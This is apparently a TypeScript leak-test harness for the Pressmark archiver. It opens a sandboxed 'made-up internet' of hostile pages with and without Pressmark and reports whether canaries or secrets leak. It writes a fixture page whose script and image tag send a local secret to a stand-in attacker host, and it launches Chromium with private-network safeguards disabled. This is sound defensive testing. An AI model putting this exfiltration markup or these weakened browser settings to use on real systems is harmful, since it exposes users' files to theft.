import { type ChildProcess, spawn } from 'node:child_process';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { openDisplay } from '#adapters/browser/open-display.ts';
import { startAttackSite } from './attack-site.ts';
import { startCanaries } from './canaries.ts';
import { ADDRESSES, CannotRunHere, isInside, runInside, setUpInside } from './made-up-internet.ts';
import { startNameServer } from './name-server.ts';
import { WAYS, type Way } from './ways.ts';

const FIRST_PORT = 20_000;
const ORIGIN = 'http://attack.test';
const MOST_LINE = 40;
/** So that ways that need a secure page are tried, and Chromium's own block of private addresses helps nobody. */
const AS_SECURE = [
  `--unsafely-treat-insecure-origin-as-secure=${ORIGIN}`,
  '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
];

/**
 * Opens hostile pages of a made-up internet, in a network of the suite's own: first in a plain Electron window, to
 * see that the ways are ways; then through Pressmark, where nothing may arrive.
 */
async function main(): Promise<number> {
  if (!isInside()) return runInside();
  const folder = mkdtempSync(path.join(tmpdir(), 'pressmark-loopback-'));
  try {
    return await inside(folder);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function inside(folder: string): Promise<number> {
  setUpInside(folder);
  const file = path.join(folder, 'secret.html');
  writeFileSync(
    file,
    `<script>fetch("${ORIGIN}/leak/file")</script><img src="${ORIGIN}/leak/file">FILE-SECRET`,
  );
  const portOf = (way: Way) => FIRST_PORT + WAYS.indexOf(way);
  const canaries = await startCanaries(WAYS.map(portOf));
  const names = await startNameServer(ADDRESSES.names);
  const site = await startAttackSite(WAYS, {
    address: ADDRESSES.site,
    port: 80,
    origin: ORIGIN,
    portOf,
    file,
  });
  const found = () => {
    const arrived = new Set(WAYS.filter((way) => canaries.arrivals(portOf(way)) > 0));
    const leaks = site.leaks().length;
    const asked = site.asked();
    canaries.forget();
    names.forget();
    site.forget();
    return { arrived, leaks, asked };
  };
  const electron = electronWith(folder);
  const display = await openDisplay();
  const plain = [
    '--no-sandbox',
    `--user-data-dir=${folder}/unguarded`,
    '--for-ms=4000',
    `--open=${site.urls.join(' ')}`,
  ];
  await ended(
    spawn(electron, [...plain, process.env.PRESSMARK_UNGUARDED_WINDOW ?? ''], {
      env: display.environment,
      stdio: 'ignore',
    }),
  );
  display.close();
  const unguarded = found();
  const words = ['out/main/cli.js', 'add', ...site.urls, '--library', path.join(folder, 'library')];
  const product = await ended(
    spawn(process.execPath, words, {
      env: { ...process.env, PRESSMARK_ELECTRON: electron },
      stdio: ['ignore', 'pipe', 'pipe'],
    }),
  );
  const guarded = found();
  await Promise.all([canaries.close(), site.close()]);
  names.close();
  return report({ unguarded, guarded, said: product });
}

type Found = { readonly arrived: ReadonlySet<Way>; readonly leaks: number; readonly asked: number };

function report({
  unguarded,
  guarded,
  said,
}: {
  readonly unguarded: Found;
  readonly guarded: Found;
  readonly said: string;
}): number {
  const groups = [...new Set(WAYS.map(({ group }) => group))];
  console.log(
    '| ways | tried | arrived from a plain window | arrived through Pressmark |\n| --- | --: | --: | --: |',
  );
  const count = (ways: readonly Way[], among: ReadonlySet<Way>) =>
    ways.filter((way) => among.has(way)).length;
  for (const group of groups) {
    const ways = WAYS.filter((way) => way.group === group);
    console.log(
      `| ${group} | ${ways.length} | ${count(ways, unguarded.arrived)} | ${count(ways, guarded.arrived)} |`,
    );
  }
  console.log(`| all | ${WAYS.length} | ${unguarded.arrived.size} | ${guarded.arrived.size} |\n`);
  console.log(
    `Read and sent on: ${unguarded.leaks} from a plain window, ${guarded.leaks} through Pressmark.`,
  );
  console.log(`Asked of the hostile site itself: ${unguarded.asked} times, and ${guarded.asked}.`);
  const idle = WAYS.filter((way) => !unguarded.arrived.has(way)).map(({ id }) => id);
  console.log(`Ways that lead nowhere in a plain window either: ${idle.join(', ')}.`);
  for (const { id } of guarded.arrived) console.log(`  ARRIVED: ${id}`);
  console.log(
    said
      .split('\n')
      .slice(0, MOST_LINE)
      .map((line) => `> ${line}`)
      .join('\n'),
  );
  const isProof = unguarded.arrived.size > 30 && guarded.asked > 30 && /Added: /.test(said);
  if (!isProof)
    console.log(
      'The run proves nothing: too few ways arrived without a guard, or the pages were not opened.',
    );
  return isProof && guarded.arrived.size === 0 && guarded.leaks === 0 ? 0 : 1;
}

/** The Electron to use, as a program that starts it with the switches of the suite. */
function electronWith(folder: string): string {
  const file = path.join(folder, 'electron');
  writeFileSync(
    file,
    `#!/bin/sh\nexec "${process.env.PRESSMARK_ELECTRON}" ${AS_SECURE.map((word) => `'${word}'`).join(' ')} "$@"\n`,
  );
  chmodSync(file, 0o755);
  return file;
}

function ended(child: ChildProcess): Promise<string> {
  let said = '';
  child.stdout?.on('data', (data) => {
    said += data;
  });
  child.stderr?.on('data', (data) => {
    said += data;
  });
  return new Promise((resolve, reject) => {
    child.once('error', reject);
    child.once('close', () => resolve(said));
  });
}

try {
  process.exitCode = await main();
} catch (error) {
  if (!(error instanceof CannotRunHere)) throw error;
  console.error(error.message);
  process.exitCode = 2;
}
